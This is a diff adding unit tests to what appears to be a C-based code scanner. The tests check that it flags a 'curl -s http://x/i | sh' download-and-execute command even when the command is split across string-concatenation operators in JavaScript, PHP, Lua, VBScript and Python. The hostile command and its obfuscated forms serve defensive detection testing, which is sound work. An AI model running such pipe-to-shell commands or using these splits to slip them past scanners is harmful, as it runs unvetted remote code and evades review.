@@ -769,6 +769,26 @@ START_TEST(normalised_view)
 	scan_str("a.py", "cmd = 'cu' 'rl -s http://x/i | sh'\n", &fl);
 	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
 	finding_list_free(&fl);
+	/* Every join the worker finds (qtrig_at): each operator, blanks or
+	 * none, tabs, mixed quotes, at the text's start and end. */
+	scan_str("a.js", "c = \"cu\"+'rl -s http://x/i | sh'\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	scan_str("a.js", "c = 'cu'\t+\t'rl -s http://x/i | sh'\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	scan_str("a.php", "$c = 'cu' . \"rl -s http://x/i | sh\";\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	scan_str("a.lua", "c = 'cu'..'rl -s http://x/i | sh'\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	scan_str("a.vbs", "c = \"cu\" & \"rl -s http://x/i | sh\"", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	scan_str("a.py", "'cu'  'rl -s http://x/i | sh'", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
 	/* A quoted part that begins or ends the word (no empty quotes). */
 	scan_str("a.sh", "\"cu\"rl -s http://x/i | sh\n", &fl);
 	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
